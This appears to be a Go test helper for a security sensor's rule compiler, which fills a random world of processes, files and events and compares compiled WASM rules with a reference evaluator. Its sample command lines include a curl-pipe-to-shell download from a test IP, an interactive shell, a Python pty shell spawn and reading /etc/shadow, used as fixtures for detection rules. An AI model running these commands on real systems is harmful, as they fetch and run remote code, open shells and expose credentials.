package compile

import (
	"bytes"
	"context"
	"encoding/binary"
	"fmt"
	"io"
	"log/slog"
	"math/rand"
	"os"
	"os/exec"
	"strings"
	"testing"

	"github.com/shikra-sensor/shikra/sensor/internal/arena"
	"github.com/shikra-sensor/shikra/sensor/internal/event"
	"github.com/shikra-sensor/shikra/sensor/internal/field"
	"github.com/shikra-sensor/shikra/sensor/internal/host"
	"github.com/shikra-sensor/shikra/sensor/internal/rule/ast"
	"github.com/shikra-sensor/shikra/sensor/internal/rule/check"
	"github.com/shikra-sensor/shikra/sensor/internal/rule/eval"
	"github.com/shikra-sensor/shikra/sensor/internal/rule/parse"
	"github.com/shikra-sensor/shikra/wasmabi"
)

var le = binary.LittleEndian

// world is an arena with random threads, files and containers, and events on them in its batch.
type world struct {
	t    testing.TB
	r    *rand.Rand
	a    *arena.Arena
	c    *field.Ctx
	objs struct{ threads, files, containers []uint32 }
}

// The texts that records hold; rules compare with these and with their parts.
var (
	comms = []string{"bash", "sh", "nginx", "cat", "systemd", "sshd", "a", "", "containerd-shim", "kworker/0:1", "12345678", "123456789"}
	paths = []string{
		"/etc/shadow", "/etc/passwd", "/", "/etc", "/usr/bin/bash", "/usr/bin/nginx", "/var/run/docker.sock", "/var/running/x",
		"/home/user/.ssh/authorized_keys", "/tmp/a", "/dev/mtd0", "/boot/vmlinuz-6.1.0", "relative/name", "noslash", "",
		"/usr/lib/systemd/system/very/long/path/that/has/more/than/sixty-four/bytes/in/it/and/goes/on/unit.service",
		"//etc//shadow", "/etc/shadow-", "/etc/shado", "/x*y[z]", "/caf\xc3\xa9/\xff",
	}
	lines = []string{
		"bash -c 'curl http://192.0.2.1/x | sh'", "nginx: worker process", "cat /etc/shadow", "sh -i", "", "python3 -c import pty;pty.spawn('/bin/bash')",
		strings.Repeat("long argument ", 40) + "--needle-in-the-end", "CURL -O HTTP://EXAMPLE.COM/",
	}
	addrs = [][]byte{{127, 0, 0, 1}, {192, 0, 2, 7}, {10, 1, 2, 3}, {0, 0, 0, 0}}
	addr6 = [][]byte{
		append(make([]byte, 15), 1),
		{0x20, 0x01, 0x0d, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1},
		make([]byte, 16),
	}
	nums = []uint64{0, 1, 2, 3, 22, 80, 443, 1000, 65535, 4294967295, 1 << 40, ^uint64(0), 1 << 63}
)

func newWorld(t testing.TB, seed int64) *world {
	a, err := arena.New(arena.Config{Threads: 256, Files: 64, Containers: 8, Strings: 1 << 20, Private: 1 << 20, Payload: 1 << 20})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { a.Close() })
	w := &world{t: t, r: rand.New(rand.NewSource(seed)), a: a}
	w.c = &field.Ctx{Arena: a}
	w.fill()
	return w
}

func pick[T any](r *rand.Rand, x []T) T { return x[r.Intn(len(x))] }

func (w *world) fill() {
	r := w.r
	str := func(b []byte, off int, from []string) {
		ref := uint32(0)
		if r.Intn(5) > 0 {
			ref = w.a.Strings.InternString(pick(r, from))
		}
		le.PutUint32(b[off:], ref)
	}
	for range 3 {
		s, _ := w.a.Containers.Alloc()
		w.objs.containers = append(w.objs.containers, s)
		b := w.a.Containers.Record(s)
		for off := 0; off+4 <= wasmabi.ContainerImageId+4; off += 4 {
			if off != wasmabi.ContainerKind {
				str(b, off, comms)
			}
		}
		le.PutUint32(b[wasmabi.ContainerKind:], uint32(r.Intn(11)))
	}
	for range 20 {
		s, _ := w.a.Threads.Alloc()
		b := w.a.Threads.Record(s)
		for off := 0; off < wasmabi.ThreadParent; off += 8 {
			le.PutUint64(b[off:], pick(r, nums))
		}
		for off := wasmabi.ThreadFlags; off < wasmabi.ThreadComm; off += 4 {
			le.PutUint32(b[off:], uint32(pick(r, nums)))
		}
		le.PutUint32(b[wasmabi.ThreadFlags:], uint32(r.Intn(256)))
		for _, l := range wasmabi.Layouts {
			if l.Name != "thread" {
				continue
			}
			for _, f := range l.Fields {
				switch f.Type {
				case "str":
					str(b, f.Offset, append(append([]string{"<NA>"}, comms...), paths...))
				case "pstr":
					if r.Intn(5) > 0 {
						le.PutUint32(b[f.Offset:], w.a.Private.InternString(pick(r, lines)))
					}
				}
			}
		}
		slot := func(off int, from []uint32) {
			if len(from) > 0 && r.Intn(6) > 0 {
				le.PutUint32(b[off:], pick(r, from))
			}
		}
		slot(wasmabi.ThreadParent, w.objs.threads)
		slot(wasmabi.ThreadLeader, append(w.objs.threads, s))
		slot(wasmabi.ThreadContainer, w.objs.containers)
		w.objs.threads = append(w.objs.threads, s)
	}
	// A thread that is its own ancestor: the way up must end.
	loop := w.objs.threads[0]
	le.PutUint32(w.a.Threads.Record(loop)[wasmabi.ThreadParent:], loop)
	for range 30 {
		s, _ := w.a.Files.Alloc()
		b := w.a.Files.Record(s)
		b[wasmabi.FileKind] = pick(r, []byte("fffd446upeslitmbnrxPo\x00"))
		b[wasmabi.FileL4proto] = pick(r, []byte{0, 1, 6, 17, 255})
		b[wasmabi.FileBits] = byte(r.Intn(64))
		le.PutUint64(b[wasmabi.FileIno:], pick(r, nums))
		le.PutUint32(b[wasmabi.FileDev:], uint32(pick(r, nums)))
		le.PutUint32(b[wasmabi.FileOpenFlags:], uint32(pick(r, nums)))
		set := func(off int) {
			if b[wasmabi.FileKind] == '6' {
				copy(b[off:off+16], pick(r, addr6))
			} else {
				copy(b[off:off+16], pick(r, addrs))
			}
		}
		set(wasmabi.FileCip)
		set(wasmabi.FileSip)
		le.PutUint16(b[wasmabi.FileCport:], uint16(pick(r, nums)))
		le.PutUint16(b[wasmabi.FileSport:], uint16(pick(r, nums)))
		if r.Intn(6) > 0 {
			name := pick(r, paths)
			le.PutUint32(b[wasmabi.FileName:], w.a.Strings.InternString(name))
			dir := max(strings.LastIndexByte(name, '/'), 0)
			if r.Intn(10) == 0 {
				dir = r.Intn(200)
			}
			le.PutUint32(b[wasmabi.FileNameDir:], uint32(dir))
		}
		str(b, wasmabi.FileNameRaw, paths)
		w.objs.files = append(w.objs.files, s)
	}
}

// the event types that random worlds have
var worldTypes = []event.Type{
	event.SyscallOpenX, event.SyscallOpenatV2X, event.SyscallExecveV19X, event.SyscallCloseX, event.SyscallReadX, event.SyscallWriteX,
	event.SocketConnectX, event.SocketAcceptV5X, event.GenericX, event.ProcexitV1E, event.SyscallUnlinkV2X, event.SyscallKillX,
	event.SocketSendtoX, event.SyscallSetuidX,
}

// events fills the batch with n random events.
func (w *world) events(n int) {
	r := w.r
	var b event.Builder
	for i := range n {
		typ := pick(r, worldTypes)
		b.Start(uint64(i)*1000, int64(pick(r, nums)), typ).SetCPU(uint16(r.Intn(4)))
		for _, p := range typ.Info().Params {
			switch {
			case r.Intn(5) == 0:
				b.Missing()
			case typ == event.GenericX && p.Name == "ID":
				b.Int(int64(r.Intn(400)))
			case p.Type.Size() > 0 && p.Type.Size() <= 8:
				b.Int(int64(pick(r, nums)))
			case p.Type == event.ParamCharbuf || p.Type == event.ParamFspath || p.Type == event.ParamFsrelpath:
				b.String(pick(r, paths))
			case p.Type == event.ParamBytebuf:
				b.Bytes([]byte(pick(r, lines) + "\x00\xff" + pick(r, comms)))
			default:
				b.Missing()
			}
		}
		e, ok := w.a.Batch.Append(b.Done(), uint64(i+1))
		if !ok {
			w.t.Fatalf("event %d doesn't fit", i)
		}
		if r.Intn(8) > 0 {
			e.SetThread(pick(r, w.objs.threads))
		}
		if r.Intn(6) > 0 {
			e.SetFile(pick(r, w.objs.files))
		}
		e.SetFD(int32(r.Intn(5) - 1))
		if r.Intn(5) > 0 {
			e.SetRes(int64(pick(r, []uint64{0, 3, ^uint64(0), ^uint64(12)})))
		}
		e.SetBits(uint32(r.Intn(16)))
	}
}

// run is a module of rules in a host, with what it alerted on.
type run struct {
	w      *world
	h      *host.Host
	m      *host.Module
	refs   []field.Ref // of the columns
	alerts map[int]int // rule by event
}

// load compiles rules and loads them.
func (w *world) load(engine string, p *check.Program, o Options) *run {
	t := w.t
	t.Helper()
	code, err := Compile(p, o)
	if err != nil {
		t.Fatal(err)
	}
	validate(t, code)
	return w.loadModule(engine, code)
}

func (w *world) loadModule(engine string, code []byte) *run {
	w.t.Helper()
	u := &run{w: w}
	u.open(engine, code, func(f string) (int, error) {
		ref, err := field.Parse(f)
		u.refs = append(u.refs, ref)
		return len(u.refs) - 1, err
	})
	return u
}

// loadFor loads a module whose columns the caller fills.
func (w *world) loadFor(code []byte, column func(string) (int, error)) *run {
	w.t.Helper()
	u := &run{w: w}
	u.open("interpreter", code, column)
	return u
}

func (u *run) open(engine string, code []byte, column func(string) (int, error)) {
	w, t := u.w, u.w.t
	t.Helper()
	u.alerts = map[int]int{}
	var err error
	u.h, err = host.New(context.Background(), host.Config{
		Arena: w.a, Engine: engine, Log: slog.New(slog.NewTextHandler(io.Discard, nil)),
		OnAlert: func(_ *host.Module, e, r int) {
			if old, ok := u.alerts[e]; ok {
				t.Errorf("event %d alerts twice: rules %d and %d", e, old, r)
			}
			u.alerts[e] = r
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { u.h.Close() })
	if u.m, err = u.h.Load(context.Background(), code, host.LoadOptions{Column: column}); err != nil {
		t.Fatal(err)
	}
}

// extract fills the columns of the events in the batch, those that the manifest wants.
func (u *run) extract() {
	w := u.w
	fe := u.m.Manifest().FieldEvents
	for i := range w.a.Batch.Len() {
		e := w.a.Batch.Event(i)
		for k := range u.refs {
			for _, code := range fe[k] {
				if code == uint16(e.Type()) && !u.refs[k].Extract(w.c, e, w.a.Batch, k, i) {
					w.t.Fatalf("no room for %s of event %d", u.refs[k].Text, i)
				}
			}
		}
	}
}

func (u *run) judge() map[int]int {
	u.w.t.Helper()
	clear(u.alerts)
	if err := u.m.Judge(context.Background()); err != nil {
		u.w.t.Fatal(err)
	}
	return u.alerts
}

// expect returns the alerts that the oracle wants: of the rules that match, the first.
func (w *world) expect(p *check.Program) map[int]int {
	w.t.Helper()
	var ev []*eval.Evaluator
	for _, r := range p.Rules {
		v, err := eval.New(r, w.c)
		if err != nil {
			w.t.Fatal(err)
		}
		ev = append(ev, v)
	}
	want := map[int]int{}
	for i := range w.a.Batch.Len() {
		e := w.a.Batch.Event(i)
		for k, r := range p.Rules {
			if contains(r.Types, e.Type()) && ev[k].Match(e) {
				want[i] = k
				break
			}
		}
	}
	return want
}

func contains(x []event.Type, t event.Type) bool {
	for _, y := range x {
		if y == t {
			return true
		}
	}
	return false
}

// rules makes a program of conditions: those of a rules file, for every event type that the condition admits.
func rules(t testing.TB, conditions ...string) *check.Program {
	t.Helper()
	var b strings.Builder
	for i, c := range conditions {
		fmt.Fprintf(&b, "- rule: r%d\n  desc: d\n  condition: %s\n  output: o\n  priority: INFO\n", i, quoteYAML(c))
	}
	return checked(t, "rules.yaml", b.String())
}

func quoteYAML(s string) string {
	var b strings.Builder
	b.WriteByte('"')
	for _, c := range []byte(s) {
		switch {
		case c == '"' || c == '\\':
			b.WriteByte('\\')
			b.WriteByte(c)
		case c < ' ':
			fmt.Fprintf(&b, "\\x%02x", c)
		default:
			b.WriteByte(c)
		}
	}
	b.WriteByte('"')
	return b.String()
}

func checked(t testing.TB, name, text string) *check.Program {
	t.Helper()
	f, ds := parse.File(name, []byte(text))
	if f == nil {
		t.Fatalf("%v\n%s", ds.Err(), text)
	}
	p, ds := check.Check([]*ast.File{f}, check.Options{})
	if p == nil {
		t.Fatalf("%v\n%s", ds.Err(), text)
	}
	return p
}

// validate has wabt look at the module; in CI wabt must be there.
func validate(t testing.TB, code []byte) {
	t.Helper()
	path, err := exec.LookPath("wasm-validate")
	if err != nil {
		if os.Getenv("CI") != "" {
			t.Fatal("wasm-validate is not installed")
		}
		t.Log("wasm-validate is not installed (apt-get install wabt): only our own decoder looks at the module")
		return
	}
	cmd := exec.Command(path, "-")
	cmd.Stdin = bytes.NewReader(code)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("wasm-validate: %v\n%s", err, out)
	}
}
